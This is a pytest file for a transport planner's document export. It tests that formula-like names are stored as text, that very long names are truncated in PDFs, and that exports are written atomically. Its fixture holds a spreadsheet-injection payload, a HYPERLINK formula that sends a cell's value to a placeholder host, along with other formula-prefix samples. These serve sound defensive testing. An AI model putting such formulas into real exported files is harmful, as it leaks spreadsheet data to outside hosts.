"""Documents from hostile input: formulas stay text, very long names never crash a PDF, no export stops halfway.

A name typed as ``=HYPERLINK(...)`` must come back from the workbooks as the
exact text (openpyxl data type ``s``), never a formula; a 5,000-character name
and very long village and employer names are cut with '…' in the PDFs, in full
in the workbooks; each file is written atomically, and a document that cannot
be written does not stop the others.
"""

from __future__ import annotations

import csv
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from planner.cli import EXIT_OK, EXIT_PROBLEMS, main
from planner.documents.common import (
    CjkPdf,
    ExportError,
    excel_safe_text,
    load_doc_data,
    write_excel,
)
from planner.documents.manifest import write_manifests
from planner.documents.pickup import write_pickup_lists
from planner.documents.trace import write_trace_csv
from planner.documents.waves import write_wave_plan

ROOT = Path(__file__).resolve().parent.parent
SCENARIO = ROOT / "tests" / "data" / "tiny" / "scenario.toml"

FORMULA = '=HYPERLINK("http://example.invalid/?"&F2,"点我")'
LONG_NAME = "张" * 5000
LONG_PLACE = "很长的社区居民委员会" * 300  # 3,000 characters
LONG_EMPLOYER = "Very Long Employer Name Manufacturing " * 80


@pytest.fixture(scope="module")
def hostile(tiny_plan_dir):
    """The tiny plan's documents data with a formula name (a coach leader), a 5,000-character name,
    a 3,000-character village name and a very long employer name."""
    data = load_doc_data(tiny_plan_dir, SCENARIO)
    trips = data.plan.trips
    leaders = trips.loc[trips["leader_worker_id"].notna() & (trips["leader_worker_id"].astype(str) != ""),
                        "leader_worker_id"].astype(str)
    leader = leaders.iloc[0]
    planned = data.plan.workers[data.plan.workers["status"] == "planned"]
    long_one = next(w for w in planned["worker_id"].astype(str) if w != leader)
    data.people.loc[leader, "name"] = FORMULA
    data.people.loc[long_one, "name"] = LONG_NAME
    village = str(planned.loc[planned["worker_id"] == long_one, "village_code"].iloc[0])
    data.villages.loc[village, "village_name"] = LONG_PLACE
    data.places[village] = LONG_PLACE
    factory = str(planned.loc[planned["worker_id"] == long_one, "factory_id"].iloc[0])
    data.factories.loc[factory, "name"] = LONG_EMPLOYER
    data.places[factory] = LONG_EMPLOYER
    return {"data": data, "leader": leader, "long_one": long_one, "planned": planned}


@pytest.fixture(scope="module")
def written(hostile, tmp_path_factory):
    """Every pick-up list, every manifest and the wave plan of the hostile data."""
    out = tmp_path_factory.mktemp("hostile-docs")
    data = hostile["data"]
    paths = write_pickup_lists(data, out) + write_manifests(data, out) + write_wave_plan(data, out)
    return out, paths


def _cells(path: Path) -> list[tuple[str, openpyxl.cell.cell.Cell]]:
    book = openpyxl.load_workbook(path)
    return [(ws.title, c) for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def test_every_document_is_written(written, hostile):
    """No document stops halfway: each township's two files, each province's two, the wave plan's two."""
    out, paths = written
    townships = sorted(hostile["planned"]["township_code"].astype(str).unique())
    names = {p.name for p in paths}
    assert {f"乘车人员名单_{c}.{ext}" for c in townships for ext in ("xlsx", "pdf")} <= names
    assert len(paths) == 2 * len(townships) + 4 + 2
    assert all(p.is_file() and p.stat().st_size > 0 for p in paths)
    assert not [p for p in out.iterdir() if p.name.startswith(".")]  # no temporary files left


def test_formula_name_is_text_in_pickup_list(written, hostile):
    """The pick-up list holding the formula name stores it as the exact text (data type 's')."""
    out, _ = written
    p = hostile["planned"]
    code = str(p.loc[p["worker_id"] == hostile["leader"], "township_code"].iloc[0])
    cells = _cells(out / f"乘车人员名单_{code}.xlsx")
    hits = [c for _, c in cells if c.value == FORMULA]
    assert hits and all(c.data_type == "s" for c in hits)


def test_formula_name_is_text_in_both_manifest_sheets(written):
    """In the manifests the formula name (a leader and a passenger) is text in 到达车辆 and 到达人员."""
    out, _ = written
    sheets_with_it = set()
    for path in out.glob("到达名单_*.xlsx"):
        for sheet, c in _cells(path):
            if c.value == FORMULA:
                assert c.data_type == "s", (path.name, sheet, c.coordinate)
                sheets_with_it.add(sheet)
    assert sheets_with_it == {"到达车辆", "到达人员"}


def test_no_workbook_holds_a_formula(written):
    """No cell of any workbook written from input data is a formula."""
    out, _ = written
    for path in out.glob("*.xlsx"):
        assert not [c.coordinate for _, c in _cells(path) if c.data_type == "f"], path.name


def test_long_texts_are_whole_in_workbooks(written, hostile):
    """The workbooks keep the 5,000-character name in full (Excel holds 32,767 characters a cell)."""
    out, _ = written
    p = hostile["planned"]
    code = str(p.loc[p["worker_id"] == hostile["long_one"], "township_code"].iloc[0])
    values = [c.value for _, c in _cells(out / f"乘车人员名单_{code}.xlsx")]
    assert LONG_NAME in values and LONG_PLACE in values


@pytest.mark.skipif(shutil.which("pdftotext") is None, reason="needs poppler-utils")
def test_long_texts_are_cut_with_an_ellipsis_in_pdfs(written, hostile):
    """In the PDF the long name is cut with '…': a few lines of it, not 5,000 characters."""
    out, _ = written
    p = hostile["planned"]
    code = str(p.loc[p["worker_id"] == hostile["long_one"], "township_code"].iloc[0])
    text = subprocess.run(["pdftotext", str(out / f"乘车人员名单_{code}.pdf"), "-"], capture_output=True,
                          text=True, check=True).stdout
    assert "…" in text
    assert 5 < text.count("张") < 200
    assert text.count("很长的社区居民委员会") < 60


def test_cjk_pdf_fit_cuts_to_the_width():
    """fit() keeps short text as it is and cuts long text to at most the lines asked for, ending in '…'."""
    pdf = CjkPdf("测试")
    pdf.pdf.set_font("cjk", size=8)
    assert pdf.fit("李某芳", 30, 2) == "李某芳"
    assert pdf.fit("上车点\n（500101001001）", 40, 3) == "上车点\n（500101001001）"
    cut = pdf.fit(LONG_NAME, 30, 2)
    assert cut.endswith("…") and 10 < len(cut) < 60
    assert pdf.pdf.get_string_width(cut) <= 2 * 30
    assert pdf.fit("a\nb\nc\nd", 30, 2).split("\n") == ["a", "…"]


def test_failed_excel_write_keeps_the_previous_file(tmp_path):
    """A workbook whose writing fails leaves the previous file untouched and no temporary file."""
    path = tmp_path / "名单.xlsx"
    write_excel(path, {"表": pd.DataFrame({"姓名": ["旧"]})}, title="旧")
    before = path.read_bytes()

    def broken(book) -> None:
        raise RuntimeError("stopped while writing")

    with pytest.raises(RuntimeError):
        write_excel(path, {"表": pd.DataFrame({"姓名": ["新"] * 100})}, title="新", finish=broken)
    assert path.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["名单.xlsx"]


def test_one_failing_document_does_not_stop_the_others(hostile, tmp_path):
    """A pick-up list that cannot be written (its name is taken by a folder) fails alone; ExportError names it."""
    data = hostile["data"]
    townships = sorted(hostile["planned"]["township_code"].astype(str).unique())
    blocked = tmp_path / f"乘车人员名单_{townships[0]}.pdf"
    blocked.mkdir()
    with pytest.raises(ExportError) as err:
        write_pickup_lists(data, tmp_path)
    assert [f.path for f in err.value.failed] == [blocked]
    assert "无法写入" in err.value.failed[0].reason
    assert len(err.value.written) == 2 * len(townships) - 1
    assert all(p.is_file() for p in err.value.written)
    assert blocked.name in str(err.value) and "张某" not in str(err.value)


def test_cli_export_reports_failures_and_writes_the_rest(tiny_plan_dir, tmp_path, capsys):
    """`export --all-townships` with one file blocked: every other file written, the failure named, exit 1."""
    workers = pd.read_csv(tiny_plan_dir / "workers.csv", dtype=str)
    codes = sorted(workers.loc[workers["status"] == "planned", "township_code"].unique())
    out = tmp_path / "docs"
    (out / f"乘车人员名单_{codes[-1]}.xlsx").mkdir(parents=True)
    code = main(["export", str(tiny_plan_dir), "--scenario", str(SCENARIO), "--out", str(out),
                 "--all-townships", "--wave-plan"])
    captured = capsys.readouterr()
    assert code == EXIT_PROBLEMS
    assert f"乘车人员名单_{codes[-1]}.xlsx" in captured.err and "未能生成" in captured.err
    files = {p.name for p in out.iterdir() if p.is_file()}
    assert len(files) == 2 * len(codes) - 1 + 2
    assert f"乘车人员名单_{codes[-1]}.pdf" in files


def test_cli_export_all_townships_with_a_5000_character_name(tmp_path, capsys):
    """The issue's case end to end: a register with a 5,000-character name, planned, every township exported."""
    scen_dir = tmp_path / "tiny"
    shutil.copytree(SCENARIO.parent, scen_dir)
    workers = pd.read_csv(scen_dir / "workers.csv", dtype=str, keep_default_na=False)
    workers.loc[0, "name"] = LONG_NAME
    workers.loc[1, "name"] = FORMULA
    workers.to_csv(scen_dir / "workers.csv", index=False)
    plan = tmp_path / "plan"
    assert main(["plan", str(scen_dir / "scenario.toml"), "--out", str(plan), "--no-check"]) == EXIT_OK
    out = tmp_path / "docs"
    code = main(["export", str(plan), "--scenario", str(scen_dir / "scenario.toml"), "--out", str(out),
                 "--all-townships", "--all-provinces"])
    assert code == EXIT_OK, capsys.readouterr().err
    written = pd.read_csv(plan / "workers.csv", dtype=str)
    codes = written.loc[written["status"] == "planned", "township_code"].unique()
    assert len(list(out.glob("乘车人员名单_*.pdf"))) == len(codes) == len(list(out.glob("乘车人员名单_*.xlsx")))


def test_excel_safe_text_follows_owasp():
    """Cells starting with = + - @ tab or CR get a leading quote; other cells and non-text stay as they are."""
    for bad in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1"):
        assert excel_safe_text(bad) == "'" + bad
    for ok in ("李某芳", "W0000001", "", "1-2", "a=b"):
        assert excel_safe_text(ok) == ok
    assert excel_safe_text(-1) == -1


def test_trace_csv_prefixes_formula_cells(tmp_path):
    """write_trace_csv writes formula-like ids with a leading quote; the rest exactly."""
    frame = pd.DataFrame({"worker_id": ["W1", FORMULA, "+86 123", "-5", "@x"],
                          "kind": ["同车"] * 5, "rows_apart": pd.array([1, 2, None, 4, 5], dtype="Int64")})
    path = write_trace_csv(frame, tmp_path / "trace.csv", zh_headers=True)
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["被追踪人员编号", "接触类型", "相隔排数"]
    assert [r[0] for r in rows[1:]] == ["W1", "'" + FORMULA, "'+86 123", "'-5", "'@x"]
    assert [r[2] for r in rows[1:]] == ["1", "2", "", "4", "5"]


def test_rejected_rows_csv_neutralises_formulas(tmp_path, capsys):
    """`validate --rejected-dir`: a rejected row whose name is a formula is written with a leading quote."""
    case = tmp_path / "tiny"
    shutil.copytree(SCENARIO.parent, case)
    w = pd.read_csv(case / "workers.csv", dtype=str, keep_default_na=False)
    w.loc[0, "village_code"] = "500101999999"  # rejected: no such village
    w.loc[0, "name"] = FORMULA
    w.to_csv(case / "workers.csv", index=False)
    main(["validate", str(case / "scenario.toml"), "--rejected-dir", str(tmp_path / "rejected")])
    with open(tmp_path / "rejected" / "rejected_workers.csv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["name"] for r in rows] == ["'" + FORMULA]
